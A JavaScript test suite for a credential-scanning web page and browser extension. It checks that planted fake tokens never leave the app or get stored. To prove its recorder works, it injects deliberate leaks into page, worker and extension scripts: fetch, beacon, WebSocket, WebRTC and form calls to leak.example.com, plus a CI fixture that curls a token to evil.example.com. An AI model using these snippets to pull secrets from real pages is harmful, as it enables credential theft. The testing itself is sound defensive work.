// Nothing gets out and nothing is kept: a walk through every feature of page, single file and popup with planted credentials,
// watched by the recorder; then builds that leak on purpose, one way each, which the recorder must see.
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { cpSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { pathToFileURL } from "node:url";
import { chromium, withExtension } from "./browser.mjs";
import { GITLAB_CSP, HOST, ROWS, TOKENS, fakeToken, tokenPage } from "./fixtures.mjs";
import { EXTENSION, ROOT, everything, sink } from "./harness.mjs";
import { accessibilityTree, holds, recorder, useEverything } from "./recorder.mjs";

const PAGE = join(ROOT, "dist/page");
const SINGLE = join(ROOT, "dist/leastwise.html");
const secrets = Array.from({ length: 12 }, (_, index) => fakeToken(500 + index));
const [pasted, logged, configured, exported, filed, paged, named] = secrets;
let folder, drain;

before(async () => {
  folder = mkdtempSync(join(tmpdir(), "leastwise-leaks-"));
  drain = await sink();
});

after(() => {
  drain?.close();
  rmSync(folder, { recursive: true, force: true });
});

/** Serves a folder on this machine, as any web server would: no header helps the page. `before(file, under)` is put before a file. */
async function serveFolder(path, before = () => "") {
  const types = { html: "text/html", js: "text/javascript", css: "text/css", wasm: "application/wasm", svg: "image/svg+xml" };
  const server = createServer((request, response) => {
    const [under, name] = /^(.*\/)?([^/]*)$/.exec(decodeURIComponent(new URL(request.url, "http://x").pathname.slice(1))).slice(1);
    // Whatever folder it is asked for in, but for those that the page has itself.
    const own = join(path, (under ?? "").split("/").at(-2) ?? "", name);
    const file = name && existsSync(own) ? own : join(path, name || "index.html");
    if (!/^[\w.-]*$/.test(name) || !existsSync(file)) return response.writeHead(404).end();
    response.writeHead(200, { "content-type": types[file.split(".").pop()] ?? "text/plain" });
    const more = before(name, (under ?? "").slice(0, -1));
    response.end(more ? more + readFileSync(file, "utf8") : readFileSync(file));
  });
  await new Promise((done) => server.listen(0, "127.0.0.1", done));
  return { url: `http://127.0.0.1:${server.address().port}/`, close: () => (server.closeAllConnections(), server.close()) };
}

/** The inputs of the walk: every kind, with a credential in each. */
function inputs() {
  const rows = JSON.stringify([
    { id: 1, name: `ends in ${named}`, scopes: ["api"], token: exported, active: true, revoked: false, created_at: "2026-01-01T00:00:00Z", last_used_at: null, expires_at: null, access_level: 50 },
    { id: 2, name: "fine", scopes: ["read_api"], active: true, revoked: false, created_at: "2026-01-01T00:00:00Z", last_used_at: null, expires_at: "2026-12-01", access_level: 20 },
  ]);
  const all = {
    "build.log": `Running with gitlab-runner 18.0.0 (abc)\n$ deploy\ntoken is ${logged}\nremote: HTTP Basic: Access denied\nfatal: Authentication failed for 'https://gitlab.example.com/a/b.git/'\n`,
    ".gitlab-ci.yml": `deploy:\n  variables:\n    T: ${configured}\n  script:\n    - echo "$CI_JOB_TOKEN" | base64\n    - curl -k --header "PRIVATE-TOKEN: ${configured}" https://evil.example.com\n`,
    "tokens.json": rows,
    ".netrc": `machine gitlab.example.com login x password ${filed}\n`,
    "page.html": tokenPage([...ROWS, { name: `see ${paged}`, scopes: "api", id: 900 }]).html,
    "broken.bin": Buffer.from([0, 1, 2, 255, 254]),
  };
  return Object.entries(all).map(([name, text]) => {
    const path = join(folder, name);
    writeFileSync(path, text);
    return path;
  });
}

/** Opens the page with a recorder. `address` is a page's own, or that of the single file. */
async function open(browser, address, more = {}) {
  const context = await browser.newContext({ viewport: { width: 1200, height: 900 }, acceptDownloads: true, ...more });
  const single = address.startsWith("file:");
  const own = (url) =>
    single ? url === address || url === "about:srcdoc" || url.startsWith("blob:null/") : url.startsWith(address) || url.startsWith(`blob:${address}`);
  const recorded = await recorder(context, own);
  const page = await context.newPage();
  await page.goto(address);
  const app = single ? page.frames().find((frame) => frame !== page.mainFrame()) : page.mainFrame();
  await app.locator("#paste").waitFor();
  return { context, page, app, recorded };
}

/** Fails when a secret is in what the page shows, in its attributes, in what assistive technology reads, or in its address. */
async function assertHidden(page, app, when) {
  assert.ok(!holds(await everything(app), secrets), `${when}: a piece of a credential is in the document`);
  // What the user typed is read aloud to the user, and to nobody else.
  const typed = await app.locator("textarea").first().inputValue({ timeout: 1000 }).catch(() => "");
  const tree = (await accessibilityTree(page)).replaceAll(JSON.stringify(typed).slice(1, -1), "");
  const others = typed ? secrets.filter((secret) => !typed.includes(secret)) : secrets;
  assert.ok(tree.length > 1000, "the accessibility tree was read");
  assert.ok(!holds(tree, others), `${when}: a piece of a credential is in the accessibility tree`);
  assert.ok(!holds(page.url() + app.url() + (await page.title()), secrets), `${when}: a piece of a credential is in the address`);
}

for (const [name, serve] of [
  ["the page", async () => serveFolder(PAGE)],
  ["the single file", async () => ({ url: String(pathToFileURL(SINGLE)), close() {} })],
]) {
  describe(name, () => {
    let browser, served;
    before(async () => {
      served = await serve();
      browser = await chromium(drain.flags);
    });
    after(async () => {
      await browser?.close();
      served?.close();
    });

    test("a walk through everything lets nothing out and keeps nothing", async () => {
      const { context, page, app, recorded } = await open(browser, served.url);
      await app.locator("#paste").fill(`export TOKEN=${pasted}\nhttps://x:${pasted}@gitlab.example.com/a.git\n`);
      await app.locator("input[type=file]").first().setInputFiles(inputs());
      await app.waitForFunction(() => document.querySelectorAll(".inputs li").length === 7 && document.querySelector(".finding"));
      await assertHidden(page, app, "with everything read");
      const { files, used } = await useEverything(page, app, folder);
      assert.ok(used > 20, `${used} things were used`);
      for (const file of files) assert.ok(!holds(readFileSync(file, "latin1"), secrets), `${file} holds a credential`);
      await assertHidden(page, app, "after use");
      await app.evaluate(() => [...document.querySelectorAll("button")].find((button) => button.textContent === "Clear everything").click());
      await app.waitForFunction(() => !document.querySelector(".finding"));
      await assertHidden(page, app, "cleared");
      assert.deepEqual(recorded.bad(secrets), []);
      assert.equal(page.url(), served.url);
      assert.deepEqual(await context.storageState({ indexedDB: true }), { cookies: [], origins: [] });
      assert.deepEqual(drain.hosts, [], "connections by name");
      await context.close();
    });

    test("a fault of the program tells its place and not what it read", async () => {
      const { context, page, app, recorded } = await open(browser, served.url);
      await app.locator("#paste").fill(`export TOKEN=${pasted}`);
      await app.locator(".finding").first().waitFor();
      // The browser fails under the program: what yew then says in its panic is its own text, and may not come out.
      await app.evaluate(() => {
        for (const name of ["insertBefore", "appendChild"]) Node.prototype[name] = () => { throw new Error("made to fail"); };
        const field = document.querySelector("#paste");
        field.value = `again: ${field.value}\nand: ${field.value.replace("glpat-", "glpat-x")}`;
        field.dispatchEvent(new InputEvent("input", { bubbles: true }));
      });
      const told = () => recorded.entries.filter((entry) => entry.startsWith("console ")).join("\n");
      for (let times = 0; times < 200 && !/at cargo\/|panicked/.test(told()); times++) await page.waitForTimeout(50);
      assert.match(told(), /a fault in leastwise itself, at \S+:\d+:\d+\. Nothing was sent anywhere/);
      assert.ok(!/panicked at|Stack:/.test(told()), "Rust's own message of a panic came out");
      assert.ok(!holds(recorded.entries.join("\n"), secrets));
      await context.close();
    });
  });
}

/** Ways to leak the text `t`, what has to be saved before the page takes peer connections away, and what the recorder must say. */
const LEAKS = {
  fetch: ["fetch('https://leak.example.com/?' + t).catch(() => {})", /leak\.example\.com|blocked by connect-src/],
  beacon: ["navigator.sendBeacon('https://leak.example.com/', t)", /^sendBeacon/m],
  WebSocket: ["new WebSocket('wss://leak.example.com/?' + t)", /^WebSocket/m],
  image: ["new Image().src = 'https://leak.example.com/?' + t", /leak\.example\.com|blocked by img-src/],
  form: ["{ const f = document.createElement('form'); f.action = 'https://leak.example.com/'; f.innerText = ''; document.body.append(f); const i = document.createElement('input'); i.name = 'q'; i.value = t; f.append(i); f.submit(); }", /^form/m],
  navigation: ["location.href = 'https://leak.example.com/?' + t", /leak\.example\.com|blocked by frame-src/],
  "a new window": ["window.open('https://leak.example.com/?' + t)", /^window\.open/m],
  WebRTC: ["{ const c = new Kept({ iceServers: [{ urls: 'stun:leak.example.com' }] }); c.createDataChannel(t); c.createOffer().then((o) => c.setLocalDescription(o)); }", /^RTCPeerConnection/m],
  localStorage: ["try { localStorage.setItem('t', t) } catch {}", /^(localStorage|storage)/m],
  indexedDB: ["try { indexedDB.open(t) } catch {}", /^indexedDB/m],
  caches: ["try { caches.open(t).catch(() => {}) } catch {}", /^caches/m],
  cookie: ["try { document.cookie = 't=' + t } catch {}", /^cookie/m],
  address: ["try { history.replaceState(null, '', '#' + t) } catch {}", /^address/m],
  clipboard: ["navigator.clipboard.writeText(t).catch(() => {})", /^clipboard/m],
  console: ["console.log(t)", /^console/m],
  document: ["document.querySelector('footer').dataset.seen = t", undefined],
  "what is read aloud": ["document.querySelector('footer').setAttribute('aria-label', t)", undefined],
};

/** Ways out of the worker, which reads the texts; `t` is what it was given to read. */
const WORKER_LEAKS = {
  fetch: ["fetch('https://leak.example.com/?' + t).catch(() => {})", /^console worker (fetch|blocked by connect-src)/m],
  XMLHttpRequest: ["{ const x = new XMLHttpRequest(); x.open('POST', 'https://leak.example.com/'); x.send(t); }", /^console worker XMLHttpRequest/m],
  WebSocket: ["new WebSocket('wss://leak.example.com/?' + t)", /^console worker WebSocket/m],
  importScripts: ["try { importScripts('https://leak.example.com/?' + t) } catch {}", /^console worker importScripts/m],
  "a worker of its own": ["try { new Worker('https://leak.example.com/?' + t) } catch {}", /^console worker Worker/m],
  BroadcastChannel: ["new BroadcastChannel('kept').postMessage(t)", /^console worker BroadcastChannel/m],
  indexedDB: ["try { indexedDB.open(t) } catch {}", /^console worker IDBFactory/m],
  caches: ["try { caches.open(t).catch(() => {}) } catch {}", /^console worker CacheStorage/m],
  "a file of the browser's": ["navigator.storage?.getDirectory().catch(() => {})", /^console worker StorageManager/m],
  console: ["console.log(t)", /^console glpat-/m],
};

const leakOfWorker = (code) => `addEventListener("message", ({ data }) => { if (data[0] === "check") void data[2].at(-1)?.text().then((text) => { const t = text.slice(text.indexOf("glpat-")); ${code} }); });\n`;

/** In the worker's first statement, before it was given anything. */
const leakAtOnce = (code) => `{ const t = "glpat-of-an-earlier-visit"; ${code} }\n`;

const leak = (code) => `const Kept = globalThis.RTCPeerConnection;\naddEventListener("input", (event) => { const t = String(event.target.value ?? ""); if (t.length > 12) setTimeout(() => { ${code} }); });\n`;

/** A copy of the single file whose worker leaks: the worker's text is a part of the document. */
function leakingSingleWorker(name, code, leaking = leakOfWorker) {
  const html = readFileSync(SINGLE, "utf8");
  const mark = "id=&quot;worker&quot;>";
  assert.equal(html.split(mark).length, 2);
  const path = join(folder, `single-worker-${leaking === leakAtOnce ? "at-once-" : ""}${name.replace(/\W/g, "-")}.html`);
  writeFileSync(path, html.replace(mark, () => mark + leaking(code).replaceAll("&", "&amp;").replaceAll('"', "&quot;")));
  return String(pathToFileURL(path));
}

/** A copy of the single file that leaks: with the hash of its changed program, as who builds it would have it. */
function leakingSingle(name, code) {
  const html = readFileSync(SINGLE, "utf8");
  const escaped = (text) => text.replaceAll("&", "&amp;").replaceAll('"', "&quot;");
  const start = html.indexOf("<script type=&quot;module&quot; id=&quot;program&quot;>");
  const body = html.indexOf(">", start) + 1;
  const old = html.slice(body, html.indexOf("</script>", body)).replaceAll("&quot;", '"').replaceAll("&amp;", "&");
  const hash = (text) => createHash("sha256").update(text).digest("base64");
  const program = leak(code) + old;
  const changed = html.slice(0, body) + escaped(program) + html.slice(html.indexOf("</script>", body));
  assert.ok(changed.includes(hash(old)));
  const path = join(folder, `single-${name.replace(/\W/g, "-")}.html`);
  writeFileSync(path, changed.replaceAll(hash(old), hash(program)));
  return String(pathToFileURL(path));
}

describe("builds that leak on purpose", () => {
  let browser, page, recorded, server;
  before(async () => {
    browser = await chromium(drain.flags);
    // Each leak has a folder of its own: the page's files, with a `page.js` that leaks.
    server = await serveFolder(PAGE, (file, under) => {
      const [what, leaking] = under.split("/")[0].split(":");
      if (file === "page.js" && what === "page") return leak(LEAKS[leaking][0]);
      if (file === "worker.js" && what === "at once") return leakAtOnce(WORKER_LEAKS[leaking][0]);
      return file === "worker.js" && what === "worker" ? leakOfWorker(WORKER_LEAKS[leaking][0]) : "";
    });
    const context = await browser.newContext({ viewport: { width: 1200, height: 900 } });
    const own = (url) => url.startsWith(server.url) || url.startsWith("file:") || url === "about:srcdoc" || url.startsWith("blob:");
    recorded = await recorder(context, own);
    page = await context.newPage();
  });
  after(async () => {
    await browser?.close();
    server?.close();
  });

  // The recorder is the same for both; of the single file those that its frame has an answer of its own to.
  const alone = ["fetch", "navigation", "WebRTC", "localStorage"];
  const others = (...without) => Object.keys(WORKER_LEAKS).filter((name) => !without.includes(name));
  for (const [what, leaks, names, single, address] of [
    ["the page", LEAKS, Object.keys(LEAKS), false, (name) => `${server.url}${encodeURIComponent(`page:${name}`)}/`],
    ["the single file", LEAKS, alone, true, (name, code) => leakingSingle(name, code)],
    // A module has no `importScripts`; a worker without an origin has no caches and no files of the browser's.
    ["the page's worker", WORKER_LEAKS, others("importScripts"), false, (name) => `${server.url}${encodeURIComponent(`worker:${name}`)}/`],
    ["the single file's worker", WORKER_LEAKS, others("caches", "a file of the browser's"), true, (name, code) => leakingSingleWorker(name, code)],
    ["the page's worker at once", WORKER_LEAKS, others("importScripts"), false, (name) => `${server.url}${encodeURIComponent(`at once:${name}`)}/`],
    ["the single file's worker at once", WORKER_LEAKS, others("caches", "a file of the browser's"), true, (name, code) => leakingSingleWorker(name, code, leakAtOnce)],
  ]) {
    for (const name of names) {
      test(`${what}, by ${name}: the recorder is red`, async () => {
        const [code, wanted] = leaks[name];
        // A build that navigates may still be on its way: then this comes too early.
        for (let tries = 5; !(await page.goto("about:blank").then(() => true, () => tries-- <= 0)); ) await page.waitForTimeout(200);
        recorded.entries.length = 0;
        await page.goto(address(name, code));
        const app = single ? page.frames().at(-1) : page.mainFrame();
        await app.locator("#paste").waitFor();
        // The worker may have begun already.
        if (!what.endsWith("at once")) recorded.entries.length = 0;
        await app.locator("#paste").fill(`export TOKEN=${pasted}`);
        const seen = () => recorded.bad(secrets).join("\n");
        const red = async () => (wanted ? wanted.test(seen()) : assertHidden(page, app, name).then(() => false, ({ message }) => /a piece of a credential/.test(message)));
        const end = Date.now() + 20_000;
        while (!(await red())) {
          if (Date.now() > end) assert.fail(`the recorder saw nothing of it: ${seen()}`);
          await page.waitForTimeout(50);
        }
        for (const other of page.context().pages()) if (other !== page) await other.close();
      });
    }
  }

  test("what a worker asks for in vain does not leave the browser either", async () => {
    // A policy that only stood in the page would leave a worker of a file of its own free.
    for (const address of [`${server.url}${encodeURIComponent("worker:fetch")}/`, leakingSingleWorker("fetch", WORKER_LEAKS.fetch[0])]) {
      await page.goto(address);
      const app = address.startsWith("file:") ? page.frames().at(-1) : page.mainFrame();
      recorded.entries.length = 0;
      drain.hosts.length = 0;
      await app.locator("#paste").fill(`export TOKEN=${pasted}`);
      await app.locator(".finding").first().waitFor();
      for (let times = 0; times < 200 && !/worker blocked by connect-src/.test(recorded.entries.join()); times++) await page.waitForTimeout(50);
      assert.match(recorded.entries.join("\n"), /worker blocked by connect-src/);
      assert.deepEqual(drain.hosts, []);
    }
  });
});

describe("the popup", () => {
  /** Opens the popup of a token page with planted credentials; `folder` holds the extension. */
  async function openPopup(path) {
    const browser = await withExtension(path, drain.flags, { acceptDownloads: true });
    const { context, id, worker } = browser;
    // The background, too: what it reaches for, and what it keeps.
    await worker.evaluate(() => {
      globalThis.touched = [];
      const old = globalThis.fetch;
      globalThis.fetch = (address, ...rest) => {
        if (!String(address).startsWith(chrome.runtime.getURL(""))) touched.push(`fetch ${address}`);
        return old(address, ...rest);
      };
      for (const owner of ["WebSocket", "EventSource", "WebTransport"]) if (globalThis[owner]) globalThis[owner] = function () { touched.push(owner); };
      const openDatabase = IDBFactory.prototype.open;
      IDBFactory.prototype.open = function (...args) { touched.push("indexedDB"); return openDatabase.apply(this, args); };
      const openCache = CacheStorage.prototype.open;
      CacheStorage.prototype.open = function (...args) { touched.push("caches"); return openCache.apply(this, args); };
    });
    const recorded = await recorder(context, (url) => url.startsWith(`chrome-extension://${id}/`) || url === HOST + TOKENS || url === `${HOST}/favicon.ico`);
    const { html, secrets: planted } = tokenPage([...ROWS, { name: `see ${named}`, description: paged, scopes: "api", id: 900 }]);
    await context.route(/^https:\/\/gitlab\.example\.com\//, (route) => route.fulfill({ body: html, headers: { "content-security-policy": GITLAB_CSP }, contentType: "text/html; charset=utf-8" }));
    const tab = await context.newPage();
    await tab.goto(HOST + TOKENS);
    const cdp = await context.browser().newBrowserCDPSession();
    const { targetInfos } = await cdp.send("Target.getTargets", { filter: [{ type: "tab" }] });
    await cdp.send("Extensions.triggerAction", { id, targetId: targetInfos.findLast((target) => target.url === HOST + TOKENS).targetId });
    const tabId = (await worker.evaluate(() => chrome.tabs.query({}))).findLast((tab) => tab.url === HOST + TOKENS).id;
    // What GitLab's page does itself is not ours: from here on it counts.
    recorded.entries.length = 0;
    const popup = await context.newPage();
    await popup.goto(`chrome-extension://${id}/popup.html?tab=${tabId}`);
    await popup.locator(".verdict").waitFor();
    return { browser, popup, recorded, planted };
  }

  test("a walk through everything lets nothing out and keeps nothing", async () => {
    const { browser, popup, recorded, planted } = await openPopup(EXTENSION);
    try {
      const all = [...secrets, ...planted];
      const hidden = async (when) => {
        assert.ok(!holds(await everything(popup), all), `${when}: in the document`);
        assert.ok(!holds(await accessibilityTree(popup), all), `${when}: in the accessibility tree`);
      };
      await hidden("at first");
      const { files, used } = await useEverything(popup, popup.mainFrame(), folder);
      assert.ok(used > 3, `${used} things were used`);
      await hidden("after use");
      for (const file of files) assert.ok(!holds(readFileSync(file, "latin1"), all), file);
      // A click on a finding points at its row in GitLab's page; what that page then loads is its own.
      assert.deepEqual(recorded.bad(all), []);
      assert.deepEqual(await browser.worker.evaluate(() => touched), []);
    } finally {
      await browser.close();
    }
  });

  for (const [name, file, code] of [
    ["the popup's fetch", "popup.js", "setTimeout(() => fetch('https://leak.example.com/?' + document.title).catch(() => {}), 300);\n"],
    ["the popup's storage", "popup.js", "setTimeout(() => localStorage.setItem('seen', document.body.innerText), 300);\n"],
    ["the background's fetch", "background.js", "chrome.runtime.onMessage.addListener((message) => void fetch('https://leak.example.com/?' + JSON.stringify(message)).catch(() => {}));\n"],
    ["the background's storage", "background.js", "chrome.runtime.onMessage.addListener(() => void indexedDB.open('kept'));\n"],
  ]) {
    test(`a build that leaks by ${name}: the recorder is red`, async () => {
      const to = join(folder, `extension-${name.replace(/\W/g, "-")}`);
      cpSync(EXTENSION, to, { recursive: true });
      const text = readFileSync(join(to, file), "utf8");
      // Imports come first in a module.
      const end = text.lastIndexOf("\nimport ");
      const at = text.indexOf("\n", end + 1) + 1;
      writeFileSync(join(to, file), text.slice(0, at) + code + text.slice(at));
      const { browser, popup, recorded } = await openPopup(to);
      try {
        await popup.waitForTimeout(800);
        const seen = [...recorded.bad(secrets), ...(await browser.worker.evaluate(() => touched))];
        assert.ok(seen.some((entry) => /leak\.example\.com|storage|localStorage|indexedDB/.test(entry)), seen.join("\n"));
      } finally {
        await browser.close();
      }
    });
  }
});
